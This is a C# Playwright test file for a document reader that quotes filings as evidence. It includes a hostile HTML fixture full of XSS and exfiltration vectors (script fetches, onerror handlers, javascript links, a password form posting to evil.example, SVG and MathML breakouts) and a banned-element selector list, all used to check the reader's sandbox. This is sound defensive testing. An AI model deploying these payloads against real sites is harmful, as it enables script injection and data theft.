using System.Collections.Concurrent;
using Microsoft.Playwright;
using ThesisBoard.Browser.Tests.Browsing;
using ThesisBoard.Browser.Tests.Editing;
using static ThesisBoard.Browser.Tests.Documents.ReaderSteps;

namespace ThesisBoard.Browser.Tests.Documents;

/// <summary>Documents in a browser: dropped without a network, read in their sandbox, and quoted as evidence.</summary>
public sealed class ReaderTests(Chromium chromium, OwnedBoard owned) : IClassFixture<OwnedBoard>
{
    private const string Release = """
        <html><head><title>Results</title></head><body>
        <p>Exhibit 99.1</p><h1>Cango Inc. Reports First Quarter 2026 Results</h1>
        <p>Long-term debt was reduced to US$30.6 million as of March 31, 2026, from US$557.6 million as of December 31, 2025.</p>
        <h2>Mining</h2><p>The company sold 4,451 BTC in February 2026.</p>
        <table><tr><th>Item</th><th>2026</th></tr><tr><td>Long-term debt</td><td>30.6</td></tr></table>
        </body></html>
        """;

    /// <summary>Everything that a filing must not do, each attempt at an address of its own.</summary>
    private const string Hostile = """
        <html><head><meta http-equiv="refresh" content="0;url=http://evil.example/refresh"><base href="http://evil.example/">
        <link rel="stylesheet" href="http://evil.example/style.css"><link rel="preload" as="image" href="http://evil.example/preload">
        <style>@import url(http://evil.example/import.css); body { background: url(http://evil.example/bg.png) } .over { position: fixed; inset: 0; z-index: 99 }</style>
        <script>window.ran = 1; top.ran = 1; fetch('http://evil.example/script')</script><script src="http://evil.example/script.js"></script></head>
        <body onload="top.ran=2"><p>Readable text of the filing.</p>
        <img src="http://evil.example/pixel.gif" onerror="top.ran=3"><img src="x" onerror="top.ran=4"><img srcset="http://evil.example/set.png 2x">
        <div class="over" style="position:fixed;top:0;left:0;width:100%;height:100%;background:url(http://evil.example/inline.png);z-index:9999">COVER</div>
        <a id="trap" href="javascript:top.ran=5">click me</a><a href="http://evil.example/link" target="_top">go</a>
        <form action="http://evil.example/form" method="post"><input name="password" autofocus onfocus="top.ran=6"><button>Send</button></form>
        <svg onload="top.ran=7"><script>top.ran=8</script><image href="http://evil.example/svg.png"/><use href="http://evil.example/use.svg#x"/><animate onbegin="top.ran=9"/></svg>
        <math><mtext><table><mglyph><style><img src=x onerror="top.ran=10"></style></mglyph></table></mtext></math>
        <iframe src="http://evil.example/frame"></iframe><object data="http://evil.example/object"></object><embed src="http://evil.example/embed">
        <video src="http://evil.example/video" autoplay></video><audio src="http://evil.example/audio" autoplay></audio>
        <table background="http://evil.example/table.png"><tr><td style="expression(top.ran=11)">cell</td></tr></table>
        <noscript><p title="</noscript><img src=x onerror=top.ran=12>">x</p></noscript></body></html>
        """;

    [Fact]
    public async Task A_hostile_filing_runs_nothing_and_asks_nobody_for_anything()
    {
        await using var tab = await chromium.NewTab(owned.Server, await owned.Owner(chromium));
        await Drop(tab, ("hostile.htm", Hostile));
        var asked = new ConcurrentQueue<string>();
        tab.Page.Request += (_, request) => asked.Enqueue(request.Url);
        await OpenReader(tab, Hostile);
        await tab.Page.FrameLocator("iframe[data-reader]").GetByText("Readable text of the filing.").WaitForAsync();
        await tab.Page.FrameLocator("iframe[data-reader]").GetByText("click me").ClickAsync();
        await tab.Page.WaitForTimeoutAsync(1_000);

        Assert.False(await tab.Page.EvaluateAsync<bool>("'ran' in window || 'ran' in document.querySelector('iframe').contentWindow"));
        Assert.DoesNotContain(asked, url => new Uri(url).Authority != owned.Server.Address.Authority && !url.StartsWith("data:", StringComparison.Ordinal));
        Assert.Contains("/documents/", tab.Page.Url, StringComparison.Ordinal);
        Assert.Equal(0, await tab.Page.EvaluateAsync<int>(
            """
            (() => {
              const page = document.querySelector('iframe').contentDocument;
              const banned = page.querySelectorAll('script,form,input,iframe,object,embed,svg,math,video,audio,link,base,meta[http-equiv=refresh],[onload],[onerror],[src^=http],[href^=javascript]').length;
              return banned + [...page.querySelectorAll('*')].filter(e => ['fixed', 'absolute', 'sticky'].includes(getComputedStyle(e).position)).length;
            })()
            """));
        tab.MustBeClean();
    }

    [Fact]
    public async Task Selected_words_become_evidence_with_an_anchor_and_the_board_leads_back_to_them()
    {
        await using var tab = await chromium.NewTab(owned.Server, await owned.Owner(chromium));
        await Drop(tab, ("release-evidence.htm", Release));
        await OpenReader(tab, Release);
        await tab.Page.FrameLocator("iframe[data-reader]").GetByText("Long-term debt was reduced").WaitForAsync();
        await Attach(tab, "Long-term debt was reduced to US$30.6 million as of March 31, 2026", "Debt fell to 30.6 million.");
        await Assertions.Expect(tab.Page.Locator("#evidence .anchored")).ToContainTextAsync("Debt fell to 30.6 million.", new() { Timeout = 15_000 });
        await Assertions.Expect(tab.Page.FrameLocator("iframe[data-reader]").Locator("mark")).ToContainTextAsync("US$30.6 million");
        await Select(tab, "4,451 BTC"); // while it still says that the first is attached
        await Assertions.Expect(tab.Page.Locator(".mud-snackbar")).ToBeVisibleAsync();
        Assert.True(await tab.Page.EvaluateAsync<bool>("document.querySelector('.mud-snackbar').getBoundingClientRect().bottom <= document.getElementById('picked').getBoundingClientRect().top"));
        await tab.Goto(Editors.Board + "?q=Debt+fell+to+30.6");
        await tab.Page.GetByRole(AriaRole.Link, new() { Name = "Open in the document: Debt fell to 30.6 million." }).ClickAsync();
        await Assertions.Expect(tab.Page.Locator(".asked")).ToContainTextAsync("exact");
        await Assertions.Expect(tab.Page.FrameLocator("iframe[data-reader]").Locator("mark").First).ToBeInViewportAsync();
        tab.MustBeClean();
    }

    [Fact]
    public async Task A_passage_that_changed_in_a_later_version_is_anchored_anew_only_by_a_person()
    {
        await using var tab = await chromium.NewTab(owned.Server, await owned.Owner(chromium));
        var old = Release.Replace("Results</title>", "Version</title>", StringComparison.Ordinal);
        var newer = old.Replace("US$30.6 million", "US$31.9 million", StringComparison.Ordinal);
        await Drop(tab, ("ex99-1-versions.htm", old));
        await OpenReader(tab, old);
        await tab.Page.FrameLocator("iframe[data-reader]").GetByText("Long-term debt was reduced").WaitForAsync();
        await Attach(tab, "US$30.6 million", "Debt fell, first version.");
        await Drop(tab, ("ex99-1-versions.htm", newer));
        await OpenReader(tab, old);
        await tab.Page.Locator("#versions .anchored a").First.ClickAsync();

        await Assertions.Expect(tab.Page.Locator(".lede")).ToContainTextAsync("Affected: 1 of 1 item of the earlier document.");
        await Assertions.Expect(tab.Page.Locator(".compared")).ToContainTextAsync("changed");
        await Assertions.Expect(tab.Page.Locator(".both")).ToContainTextAsync("US$31.9 million");
        await Axe.Check(tab.Page);
        await Pictures.Take(tab.Page, "reader-compare");
        await tab.Page.GetByRole(AriaRole.Button, new() { Name = "Anchor the evidence here" }).ClickAsync();
        var dialog = tab.Page.GetByRole(AriaRole.Dialog).Last;
        await Assertions.Expect(dialog.GetByLabel("The exact words of the source")).ToHaveValueAsync("US$31.9 million", new() { Timeout = 15_000 });
        Assert.Equal("Debt fell, first version.", await dialog.GetByLabel("What is claimed").InputValueAsync());
        await dialog.GetByRole(AriaRole.Button, new() { Name = "Save", Exact = true }).ClickAsync();
        await Assertions.Expect(tab.Page.Locator(".lede")).ToContainTextAsync("No evidence is anchored in the earlier document.", new() { Timeout = 15_000 });
        tab.MustBeClean();
    }

    [Fact]
    public async Task A_selected_figure_is_recorded_with_its_unit_period_and_the_same_source()
    {
        await using var tab = await chromium.NewTab(owned.Server, await owned.Owner(chromium));
        var release = Release.Replace("Results</title>", "Figure</title>", StringComparison.Ordinal);
        await Drop(tab, ("release-figure.htm", release));
        await OpenReader(tab, release);
        await tab.Page.FrameLocator("iframe[data-reader]").GetByText("Long-term debt was reduced").WaitForAsync();
        await Select(tab, "S$30.6 mill"); // as a hand does: in the middle of a word
        await Assertions.Expect(tab.Page.Locator("#picked [data-words]")).ToHaveTextAsync("US$30.6 million");
        await tab.Page.Locator("#picked [data-do='record-passage']").ClickAsync();
        var dialog = tab.Page.GetByRole(AriaRole.Dialog).Last;
        await dialog.Locator("form[data-form]").WaitForAsync();

        await Assertions.Expect(dialog).ToContainTextAsync("Reads as $30.6M");
        Assert.Equal("(new)", await dialog.GetByLabel("Source", new() { Exact = true }).InputValueAsync());
        Assert.Equal("long-term-debt", await dialog.GetByLabel("Metric").InputValueAsync());
        await Axe.Check(tab.Page.Locator(".mud-dialog-container"));
        tab.MustBeClean();
    }

    [Fact]
    public async Task On_the_narrowest_phone_what_can_be_done_with_a_selection_is_in_reach()
    {
        await using var tab = await chromium.NewTab(owned.Server, await owned.Owner(chromium), Theme.Light, 320);
        var release = Release.Replace("Results</title>", "Look Light 320</title>", StringComparison.Ordinal);
        await Drop(tab, ("release-look.htm", release));
        await OpenReader(tab, release);
        await tab.Page.FrameLocator("iframe[data-reader]").GetByText("Long-term debt was reduced").WaitForAsync();
        await Select(tab, "4,451 BTC");
        await Assertions.Expect(tab.Page.Locator("#picked")).ToBeInViewportAsync();
        await Pictures.Take(tab.Page, "reader-Light-320", wholePage: false);
        await Axe.Check(tab.Page);
        await Fit.Check(tab.Page);
        tab.MustBeClean();
    }
}
